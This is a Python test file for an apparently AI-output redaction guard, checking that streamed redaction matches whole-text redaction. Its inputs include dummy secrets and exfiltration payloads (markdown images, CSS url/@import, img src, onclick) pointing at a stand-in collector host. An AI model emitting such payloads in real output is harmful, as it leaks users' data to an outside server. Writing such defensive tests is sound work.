"""What streams is shown as the whole text would be, wherever it is cut: each sign alone holds back what it may become."""

import re

import pytest

from surefoot.guard.cleaner import Cleaner, Scene
from surefoot.sections import GuardSettings

ADDRESS = "https://evil.example/collect?data=1234567890"
TEXTS = [
    "My api_key is zx9qk2mlp8 as of now.",
    "The password is hunter2hunter2 as of now.",
    "The passphrase: zx9qk2mlp8 as of now.",
    "Your auth_token = zx9qk2mlp8 as of now.",
    "The client_secret is zx9qk2mlp8 as of now.",
    "Send Bearer  zx9qk2mlp8zx9qk2mlp8zx9qk2mlp8 with it.",
    "So: -----BEGIN RSA PRIVATE KEY-----\nzx9qk2 mlp8\n-----END RSA PRIVATE KEY----- and on.",
    f"So: ![a plot of it]({ADDRESS}) and on.",
    f"So: [a plot]: {ADDRESS} and on.",
    f'So: url( "{ADDRESS}" ) and on.',
    f'So: @import "{ADDRESS}" ; and on.',
    f'So: <img alt="a plot" src="{ADDRESS}" > and on.',
    f'So: <p style="x" onclick="{ADDRESS}" > and on.',
]


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("piece", [r"\S*\s*", r"\s*\S*", r"(?s:.)"])
def test_what_streams_is_shown_as_the_whole_text_would_be(text, piece):
    cleaner, scene = Cleaner(GuardSettings()), Scene()
    whole = cleaner.show(text, scene)
    assert whole.redactions
    stream = cleaner.stream(scene)
    shown = [stream.feed(one) for one in re.findall(piece, text)]
    assert "".join([*shown, stream.close()]) == whole.text
